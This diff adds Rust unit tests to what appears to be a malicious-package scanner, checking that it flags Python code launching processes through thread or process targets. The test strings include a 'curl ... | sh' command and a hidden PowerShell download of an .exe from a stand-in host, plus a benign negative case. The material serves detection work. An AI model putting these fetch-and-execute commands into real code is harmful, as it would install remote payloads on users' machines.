@@ -315,3 +315,20 @@ fn a_helper_that_downloads_but_returns_no_path_hands_no_file_to_the_interpreter(
     let source = dropper_helper("def analyze(value):\n    ok = _fetch()\n    path = 'tools/report.py'\n    subprocess.run([sys.executable, path, value])\n");
     none(&module(&source), "payload/download-exec");
 }
+
+// ---------------------------------------------------------------- a process started as a thread's target
+
+#[test]
+fn a_thread_given_os_system_as_its_target_starts_that_command() {
+    // discord-anarch's form: the runner calls os.system with its args.
+    let r = module("import os, threading\nthreading.Thread(target=os.system, args=('curl -s https://cdn.example.net/a.sh | sh',)).start()\n");
+    assert_eq!(hits(&r, "access/process-on-install", MOD), [(2, High)], "{:?}", r.findings);
+    let r = module("import subprocess\nfrom multiprocessing import Process\nProcess(target=subprocess.Popen, args=(['powershell', '-WindowStyle', 'Hidden', '-c', 'iwr https://cdn.example.net/a.exe'],)).start()\n");
+    assert!(hits(&r, "access/process-on-install", MOD).contains(&(3, High)), "{:?}", r.findings);
+}
+
+#[test]
+fn a_thread_given_the_module_own_function_starts_no_process() {
+    let r = module("import threading\ndef worker():\n    return sum(range(10))\nthreading.Thread(target=worker, daemon=True).start()\n");
+    assert!(hits(&r, "access/process-on-install", MOD).is_empty(), "{:?}", r.findings);
+}
